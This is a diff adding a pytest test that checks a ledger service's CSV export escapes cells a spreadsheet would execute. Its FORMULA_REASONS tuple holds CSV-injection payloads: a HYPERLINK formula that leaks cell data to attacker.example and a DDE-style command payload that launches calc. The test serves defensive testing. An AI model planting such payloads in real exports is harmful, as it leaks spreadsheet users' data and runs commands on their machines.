@@ -11,8 +11,9 @@ import asyncpg
 import httpx
 import pytest
 
-from app.schemas import MAX_BIGINT, MAX_GAP_RUNS
+from app.schemas import MAX_BIGINT, MAX_GAP_RUNS, encode_variables
 from tests.support import Tenant, assert_problem, create_series
+from tests.test_admin_portal import signed_in_csrf
 
 
 async def issue(
@@ -332,6 +333,63 @@ async def test_the_ledger_as_csv(client: httpx.AsyncClient, tenant: Tenant) -> N
         ("all", "2", "L-2", "issued"),
         ("all", "3", "L-3", "issued"),
     ]
+
+
+FORMULA_REASONS = (
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'quoted already",
+)
+TEXT_COLUMNS = ("period", "variables", "number", "void_reason")
+
+
+def as_written(entry: dict[str, Any], column: str) -> str:
+    """A ledger entry's text as the CSV writes it before any quoting."""
+    if column == "variables":
+        return encode_variables(sorted(entry["variables"]), entry["variables"])
+    return entry[column] or ""
+
+
+async def test_csv_cells_a_spreadsheet_would_run_are_quoted_and_read_back(
+    client: httpx.AsyncClient, tenant: Tenant
+) -> None:
+    await create_series(client, tenant, "f", format="=1+{seq}")
+    await create_series(client, tenant, "v", format="{var:b}-{seq}")
+    for reason in FORMULA_REASONS:
+        issued = await client.post("/series/f/next", headers=tenant.issuer)
+        number = issued.json()["number"]
+        voided = await client.post(
+            f"/series/f/numbers/{quote(number, safe='')}/void",
+            json={"reason": reason},
+            headers=tenant.admin,
+        )
+        assert voided.status_code == 200, voided.text
+    # A variable can make a number start with "-" too: "-5-1" is a formula to a spreadsheet.
+    negative = await client.post(
+        "/series/v/next", json={"variables": {"b": "-5"}}, headers=tenant.issuer
+    )
+    assert negative.json()["number"] == "-5-1", negative.text
+    await signed_in_csrf(client, tenant)
+
+    for name in ("f", "v"):
+        ledger = await client.get(f"/series/{name}/numbers", headers=tenant.admin)
+        entries = ledger.json()["items"]
+        api_csv = await client.get(
+            f"/series/{name}/numbers", headers={**tenant.admin, "Accept": "text/csv"}
+        )
+        portal_csv = await client.get(f"/admin/series/{name}/ledger.csv")
+        assert portal_csv.text == api_csv.text
+        rows = list(csv.DictReader(io.StringIO(api_csv.text)))
+        assert len(rows) == len(entries) > 0
+        for row, entry in zip(rows, entries, strict=True):
+            for column in TEXT_COLUMNS:
+                cell, written = row[column], as_written(entry, column)
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+                # The documented reading: a cell starting with ' holds the rest of it.
+                assert (cell[1:] if cell.startswith("'") else cell) == written, (column, cell)
+            assert row["value"] == str(entry["value"])
+    rows = list(csv.DictReader(io.StringIO(api_csv.text)))
+    assert rows[0]["number"] == "'-5-1"
 
 
 @pytest.mark.parametrize(
